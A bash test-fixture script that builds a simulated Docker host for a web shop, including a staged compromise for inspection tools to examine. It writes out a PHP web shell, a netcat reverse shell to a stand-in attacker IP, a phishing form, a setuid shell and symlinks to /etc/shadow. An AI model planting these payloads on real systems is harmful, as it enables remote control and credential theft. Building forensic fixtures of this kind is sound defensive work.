#!/usr/bin/env bash
# story.sh - what happened on a web shop's Docker host before its plug was pulled.
#
# Owns: the images, volumes, networks and containers of one empty engine, the
# directory WORK (build contexts, the client's configuration) and the bind
# sources HOSTROOT/srv/shop, HOSTROOT/var/mysql, HOSTROOT/etc/shop. Stops nothing
# at its end. The recorded sample (record.sh) and the live tests (tests/it/support/engine.rs)
# both tell this story, so a name used there is a name from here.
#
# Environment:
#   DOCKER    the client with its options, e.g. "/usr/bin/docker -H unix:///x/docker.sock"
#   WORK      an empty scratch directory
#   HOSTROOT  the directory that is `/` for the engine
#
# The engine must reach registry.example.com:5443 (engine.sh provides it).
# Same structure each time: ids, random ports and times differ, nothing else.
# Every password here is fake.
# shellcheck disable=SC2016  # what stands in single quotes is for the container's shell
set -euo pipefail
: "${DOCKER:?}" "${WORK:?}" "${HOSTROOT:?}"
export DOCKER_BUILDKIT=0 DOCKER_CONFIG="$WORK/client" DOCKER_CLI_HINTS=false
export LC_ALL=C.UTF-8 TZ=UTC
unset DOCKER_HOST DOCKER_CONTEXT http_proxy https_proxy HTTP_PROXY HTTPS_PROXY

registry=registry.example.com:5443

docker() {
    # shellcheck disable=SC2086  # DOCKER is a command with its options
    command $DOCKER "$@"
}
run() { docker run -d "$@" >/dev/null; }
build() { docker build -q "$@" >/dev/null; }

# Waits (10 s at most) until `docker inspect -f FORMAT NAME` prints WANT.
await() {
    local name=$1 format=$2 want=$3 got=
    for _ in $(seq 200); do
        got=$(docker inspect -f "$format" "$name")
        [ "$got" = "$want" ] && return
        sleep 0.05
    done
    echo "story: $name: $format is '$got', not '$want'" >&2
    return 1
}

# --- The host's own files --------------------------------------------------

host_files() {
    mkdir -p "$HOSTROOT"/srv/shop/{public,uploads} "$HOSTROOT"/var/mysql/datadir/shop "$HOSTROOT"/etc/shop/tls
    printf '<?php echo "shop";\n' >"$HOSTROOT/srv/shop/public/index.php"
    printf '<?php system($_GET["c"]);\n' >"$HOSTROOT/srv/shop/uploads/cat.jpg.php"
    printf 'ibdata\n' >"$HOSTROOT/var/mysql/datadir/ibdata1"
    printf 'orders\n' >"$HOSTROOT/var/mysql/datadir/shop/orders.ibd"
    chown -R 999:999 "$HOSTROOT/var/mysql/datadir"
    printf 'not a real key\n' >"$HOSTROOT/etc/shop/tls/server.key"
    chmod 0600 "$HOSTROOT/etc/shop/tls/server.key"
    ln -sfn ../../../etc/passwd "$HOSTROOT/srv/shop/public/users.txt"
    touch -d 2019-05-27T14:10:00.5Z "$HOSTROOT/srv/shop/uploads/cat.jpg.php"
}

# --- Images ----------------------------------------------------------------

base_image() {
    local dir=$WORK/base applet
    mkdir -p "$dir/rootfs"/{bin,etc,tmp,root,run,usr/local/bin,var/log}
    chmod 1777 "$dir/rootfs/tmp"
    cp /bin/busybox "$dir/rootfs/bin/busybox"
    for applet in sh ash cat chmod chown cp date dd echo env false head id ln ls mkdir mkfifo mknod \
        mount mv nc ps printf rm rmdir sed seq sleep sort tail tar test touch tr true wc; do
        ln -s busybox "$dir/rootfs/bin/$applet"
    done
    printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\nmysql:x:999:999::/:/bin/false\n' \
        >"$dir/rootfs/etc/passwd"
    printf 'root:x:0:\nwww-data:x:33:\nmysql:x:999:\n' >"$dir/rootfs/etc/group"
    find "$dir/rootfs" -exec touch -h -d 2019-01-30T22:19:52Z {} +
    tar -C "$dir/rootfs" --numeric-owner --owner=0 --group=0 --sort=name -cf "$dir/rootfs.tar" .
    rm -r "$dir/rootfs"
    cat >"$dir/Dockerfile" <<'DOCKERFILE'
FROM scratch
ADD rootfs.tar /
CMD ["sh"]
DOCKERFILE
    build -t shop/base:1 "$dir"
}

# web VERSION TAG...: the web server; a higher version is a rebuild.
web_image() {
    local version=$1 dir=$WORK/web tag
    local -a tags=()
    shift
    for tag in "$@"; do tags+=(-t "$tag"); done
    mkdir -p "$dir"/{site/admin,site/css,conf,bin}
    printf '<h1>shop %s</h1>\n' "$version" >"$dir/site/index.html"
    printf 'read me\n' >"$dir/site/readme.html"
    printf 'old\n' >"$dir/site/admin/login.html"
    printf 'older\n' >"$dir/site/admin/setup.html"
    printf 'body{}\n' >"$dir/site/css/main.css"
    printf 'Listen 80\nServerName shop.example.com\n' >"$dir/conf/httpd.conf"
    printf 'text/html html\n' >"$dir/conf/mime.types"
    printf 'magic\n' >"$dir/conf/magic"
    printf '#!/bin/sh\nexec "$@"\n' >"$dir/bin/docker-entrypoint.sh"
    cat >"$dir/bin/httpd-foreground" <<'SH'
#!/bin/sh
echo "[mpm_event:notice] Apache/2.4.38 (Unix) configured -- resuming normal operations" >&2
echo '10.0.0.9 - - [27/May/2019:14:12:01 +0000] "GET /index.html HTTP/1.1" 200 13'
echo '203.0.113.66 - - [27/May/2019:14:12:09 +0000] "POST /uploads/cat.jpg.php?c=id HTTP/1.1" 200 39'
exec sleep 1000000
SH
    chmod 0755 "$dir"/bin/*
    cat >"$dir/Dockerfile" <<'DOCKERFILE'
FROM shop/base:1
ARG VERSION
LABEL maintainer="ops@shop.example.com" org.example.note="say \"hi\" | größer = größer"
ENV SHOP_ENV=production SHOP_OPTS="-a=1 -b='two words'"
COPY site/ /var/www/html/
COPY conf/ /etc/apache2/
COPY bin/ /usr/local/bin/
RUN echo "$VERSION" >/etc/shop-version && rm /var/www/html/css/main.css && rmdir /var/www/html/css
WORKDIR /var/www/html
EXPOSE 80/tcp 443/tcp 8125/udp
VOLUME /var/www/html/uploads
HEALTHCHECK --interval=1h --timeout=3s --start-period=1s --retries=3 CMD test -f /etc/apache2/httpd.conf
STOPSIGNAL SIGWINCH
ONBUILD RUN true
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["httpd-foreground"]
DOCKERFILE
    build --build-arg "VERSION=$version" --label "build.version=$version" "${tags[@]}" "$dir"
}

db_image() {
    local dir=$WORK/db
    mkdir -p "$dir"
    printf '[mysqld]\ndatadir=/var/lib/mysql\n' >"$dir/my.cnf"
    cat >"$dir/Dockerfile" <<'DOCKERFILE'
FROM shop/base:1
ENV MYSQL_MAJOR=10.4 MYSQL_ROOT_PASSWORD=not-a-real-password
COPY --chown=999:999 my.cnf /etc/mysql/my.cnf
VOLUME ["/var/lib/mysql", "/backup"]
EXPOSE 3306
USER 999:999
ENTRYPOINT echo "ready for connections" && exec sleep 1000000
DOCKERFILE
    build -t shop/db:10.4 "$dir"
}

# tool NAME TAG: a small image of one file.
tool_image() {
    local dir=$WORK/$1
    mkdir -p "$dir"
    printf '#!/bin/sh\necho %s\n' "$1" >"$dir/$1"
    chmod 0755 "$dir/$1"
    printf 'FROM shop/base:1\nCOPY %s /usr/local/bin/%s\nCMD ["/usr/local/bin/%s"]\n' "$1" "$1" "$1" >"$dir/Dockerfile"
    build -t "$2" "$dir"
}

imported_image() {
    mkdir -p "$WORK/imported/opt"
    printf 'from a tar ball\n' >"$WORK/imported/opt/readme"
    tar -C "$WORK/imported" --numeric-owner --owner=0 --group=0 -c opt |
        docker import -m 'imported by hand' -c 'ENV SOURCE=tar' -c 'CMD ["/opt/run"]' - shop/imported:2019 >/dev/null
}

# An image that only a digest names: pushed, removed, pulled by its digest.
digest_image() {
    local reference
    tool_image auditor "$registry/team/auditor:1"
    docker push -q "$registry/team/auditor:1" >/dev/null
    reference=$(docker inspect -f '{{index .RepoDigests 0}}' "$registry/team/auditor:1")
    docker rmi "$registry/team/auditor:1" >/dev/null
    docker pull -q "$reference" >/dev/null
    docker create --name auditor "$reference" >/dev/null
}

# --- Networks and volumes --------------------------------------------------

networks() {
    docker network create --subnet 172.28.0.0/24 --gateway 172.28.0.1 --ip-range 172.28.0.128/25 \
        --label 'tier=front | "dmz"' shop-front >/dev/null
    docker network create --internal --subnet 172.28.1.0/24 -o com.docker.network.bridge.name=br-back \
        --aux-address printer=172.28.1.9 shop-back >/dev/null
    docker network create --attachable unused >/dev/null
}

volumes() {
    docker volume create --label purpose=backup --label 'note=a "b" | ç' backup >/dev/null
    docker volume create -o type=tmpfs -o device=tmpfs -o o=size=1m,mode=0700 ramdisk >/dev/null
    docker volume create -o type=nfs -o o=addr=192.0.2.10,ro -o device=:/export/archive nfs-archive >/dev/null
    docker volume create orphaned >/dev/null
}

# --- Containers ------------------------------------------------------------

services() {
    run --name db --restart unless-stopped --network shop-back --ip 172.28.1.20 \
        --network-alias mysql --network-alias database --hostname db01 --domainname shop.internal \
        -v /var/mysql/datadir:/var/lib/mysql -v backup:/backup --tmpfs /run/mysqld:rw,size=1m,mode=0755 \
        -e MYSQL_DATABASE=shop shop/db:10.4
    run --name web --restart always --network shop-front --network-alias www --ipc shareable \
        -p 127.0.0.1:8080:80 -v /srv/shop/public:/var/www/html/public:ro \
        -v /srv/shop/uploads:/var/www/html/uploads \
        --mount type=bind,source=/etc/shop/tls,target=/etc/tls,readonly,bind-propagation=rprivate \
        -e $'MOTD=line one\nline "two" it\'s\ta=b' -e EMPTY= -e 'PATHLIKE=a=b=c' \
        --label 'note=say "hi" | größe = ünïcode 日本' --label com.example.tier=front \
        --log-opt max-size=1m --log-opt max-file=3 shop/web:latest
    docker network connect --alias frontend --ip 172.28.1.30 shop-back web
    run --name sidecar --network container:web --pid container:web --ipc container:web \
        --volumes-from db:ro --no-healthcheck --entrypoint sleep shop/web:1.0 1000000
    # Paused while healthy: its health no longer changes.
    run --name cache --health-cmd 'echo "PONG | ok"' --health-interval 300ms --memory 32m shop/base:1 sleep 1000000
    run --name edge -p 80:80 -p 127.0.0.1:8443:443 -p 8125:8125/udp -p 9000-9002:9000-9002 -p 70 \
        -p 5353:53/tcp -p 5353:53/udp --expose 6000 --expose 6100-6101/udp shop/web:1.0
    run --name auto -P --rm shop/web:1.0
    run --name agent --network host --pid host --ipc host --uts host --userns host \
        -v /:/host:ro -v /var/run/docker.sock:/var/run/docker.sock shop/base:1 sleep 1000000
    # Never started: a machine that itself lacks a capability cannot start it.
    docker create --name toolbox --privileged --cap-add ALL --pid host -v /:/host:rw -it shop/base:1 sh >/dev/null
    run --name probe --cap-add SYS_PTRACE --cap-add NET_ADMIN --cap-drop MKNOD \
        --security-opt seccomp=unconfined --security-opt apparmor=unconfined \
        --device /dev/null:/dev/xnull:r --device /dev/zero --device-cgroup-rule 'c 1:* rm' \
        --network none shop/base:1 sleep 1000000
    run --name limits --memory 64m --memory-reservation 32m --memory-swap 64m --cpus 0.5 --cpu-shares 256 \
        --cpuset-cpus 0 --pids-limit 64 --ulimit nofile=1024:2048 --ulimit nproc=64 --shm-size 8m \
        --oom-score-adj 500 --read-only --tmpfs /tmp --user 33:33 --group-add 999 --workdir /var/log \
        --cap-drop ALL --cap-add NET_BIND_SERVICE --security-opt no-new-privileges \
        --sysctl net.ipv4.ip_unprivileged_port_start=0 --dns 192.0.2.54 --dns-search shop.internal \
        --dns-option ndots:2 --add-host printer:192.0.2.9 --mac-address 02:42:ac:11:00:fe \
        --stop-signal SIGQUIT --stop-timeout 5 -v ramdisk:/ram -v /anonymous shop/base:1 sleep 1000000
    run --name console -it --link edge:web-edge --hostname console shop/base:1 sh -c 'echo hello tty; exec sh'
}

# Runs before the others: how often it restarts grows with the time it has.
crash_loop() {
    run --name crashloop --restart always shop/base:1 sh -c 'echo starting; echo "fatal: no config" >&2; exit 3'
}

endings() {
    docker create --name staging -p 8090:80 -e STAGE=next --restart on-failure:5 shop/web:1.0 >/dev/null
    docker create --name from-tar shop/imported:2019 >/dev/null
    docker network connect shop-back staging
    docker run --name migrate shop/base:1 sh -c 'echo migrated; touch /var/log/migrated' >/dev/null
    docker run --name batch shop/base:1 sh -c 'echo "batch failed" >&2; exit 42' 2>/dev/null || [ $? = 42 ]
    docker run --name hog --memory 8m --memory-swap 8m shop/base:1 tail /dev/zero >/dev/null 2>&1 || true
    run --name retrier --restart on-failure:2 shop/base:1 false
    run --name worker shop/base:1 sleep 1000000
    docker kill worker >/dev/null
    docker run --name noexec shop/base:1 /no/such/command >/dev/null 2>&1 || true
    tool_image miner shop/miner:1
    docker run --name orphan shop/miner:1 >/dev/null
    docker rmi -f shop/miner:1 >/dev/null
    docker run --name removed -v /left/behind shop/base:1 true
    docker rm removed >/dev/null
}

logs() {
    local text='0123456789 abcdefghijklmnopqrstuvwxyz'
    run --name log-plain shop/base:1 sh -c 'for i in 1 2 3; do echo "out $i"; echo "err $i" >&2; done'
    run --name log-rotated --log-opt max-size=4k --log-opt max-file=4 --log-opt compress=true \
        shop/base:1 sh -c "for i in \$(seq 200); do echo \"line \$i $text\"; done"
    run --name log-attrs --label com.example.tier=logs --env COLOR=blue --log-opt labels=com.example.tier \
        --log-opt env=COLOR --log-opt tag='{{.Name}}|{{.ImageName}}' shop/base:1 echo 'with "attributes" | é'
    # Over 16 KiB, exactly 16 KiB, bytes that are no UTF-8, control characters, markup, no final newline.
    run --name log-odd shop/base:1 sh -c '
        head -c 40000 /dev/zero | tr "\0" x; echo; head -c 16384 /dev/zero | tr "\0" y; echo
        printf "caf\351 \377\376 \0 \033[31mred\033[0m \t <b>&amp;\n\n\r\n"; echo oops >&2
        printf "no final newline"'
    run --name log-local --log-driver local shop/base:1 sh -c '
        for i in 1 2 3; do echo "out $i"; echo "err $i" >&2; done
        head -c 20000 /dev/zero | tr "\0" z; echo; printf "caf\351 \0\n"; printf "no final newline"'
    run --name log-local-rotated --log-driver local --log-opt max-size=4k --log-opt max-file=4 \
        --log-opt compress=true shop/base:1 sh -c "for i in \$(seq 300); do echo \"line \$i $text\"; done"
    run --name log-none --log-driver none shop/base:1 echo 'nobody hears this'
    docker wait log-plain log-rotated log-attrs log-odd log-local log-local-rotated log-none >/dev/null
}

# --- The attack ------------------------------------------------------------

attack() {
    local dir=$WORK/loot
    run --name apache --restart always -p 0.0.0.0:8081:80 shop/web:1.0
    mkdir -p "$dir"
    printf '#!/bin/sh\nnc 203.0.113.66 4444 -e /bin/sh\n' >"$dir/trojan"
    chmod 0755 "$dir/trojan"
    printf 'old\n' >"$dir/before-1970"
    printf 'new\n' >"$dir/after-2038"
    touch -d 2019-05-27T14:12:11.123456789Z "$dir/trojan"
    touch -d 1969-12-31T23:59:58.5Z "$dir/before-1970"
    touch -d 2106-02-07T06:28:17.000000001Z "$dir/after-2038"
    tar -C "$dir" --format=posix --numeric-owner --owner=0 --group=0 -c trojan before-1970 after-2038 |
        docker cp - apache:/tmp
    docker exec -i apache sh -e <<'SH'
rm readme.html
echo "LoadModule rootkit modules/mod_rootkit.so" >>/etc/apache2/httpd.conf
rm -r admin && mkdir admin && echo '<form action="//203.0.113.66/">' >admin/login.html
chmod 0777 /etc/apache2/mime.types
chown 33:33 /etc/apache2/magic
rm /etc/shop-version && mkdir /etc/shop-version && echo x >/etc/shop-version/x
rm index.html && ln -s /tmp/trojan index.html
printf '#!/bin/sh\nexec sh -p\n' >/usr/local/bin/.su && chmod 4755 /usr/local/bin/.su
ln /usr/local/bin/.su /var/log/.su
mkdir -p /tmp/links /tmp/odd /tmp/empty && cd /tmp/links
ln -s /etc/passwd absolute && ln -s ../../etc/passwd relative && ln -s /nowhere/at/all dangling
ln -s ../../../../../../../../etc/shadow escape && ln -s loop loop
mkfifo /tmp/.pipe && mknod /tmp/.null c 1 3 && mknod /tmp/.disk b 7 0
cd /tmp/odd
touch "$(printf 'new\nline')" 'pipe|pipe' "$(printf 'tab\ttab')" "$(printf 'caf\351')" "$(printf 'bad\377\376')"
touch 'single'"'"'quote' 'double"quote' 'comma,semi;colon' '=cmd()' ' leading space' 'trailing space ' 'ünïcode-日本'
touch ./-dash 'back\slash' "$(printf 'esc\033[31mred')" '.wh.looks-like-whiteout' '.wh..wh..opq' '{"json": 1}'
echo "gotcha" >/var/www/html/uploads/shell.php
SH
    docker commit -a 'Mallory <mallory@example.com>' -m 'quick fix' -c 'ENV PATCHED=yes' -c 'LABEL by=hand' \
        apache shop/web:patched >/dev/null
    docker exec apache sh -c 'echo "after the commit" >/tmp/later'
}

tell() {
    mkdir -p "$WORK/client"
    host_files
    networks
    volumes
    base_image
    crash_loop
    web_image 1.0 shop/web:1.0
    run --name web-old -p 8000:80 shop/web:1.0
    web_image 1.0.1 shop/web:1.0 shop/web:latest "$registry/team/web:1.0"
    docker push -q "$registry/team/web:1.0" >/dev/null
    db_image
    imported_image
    digest_image
    services
    attack
    logs
    endings
    # Settled: what the engine says now still holds ten seconds later.
    await cache '{{.State.Health.Status}}' healthy
    docker pause cache >/dev/null
    await retrier '{{.State.Status}} {{.RestartCount}}' 'exited 2'
    while [ "$(docker inspect -f '{{.RestartCount}}' crashloop)" -lt 7 ]; do sleep 0.1; done
    await crashloop '{{.State.Status}}' restarting
}

tell
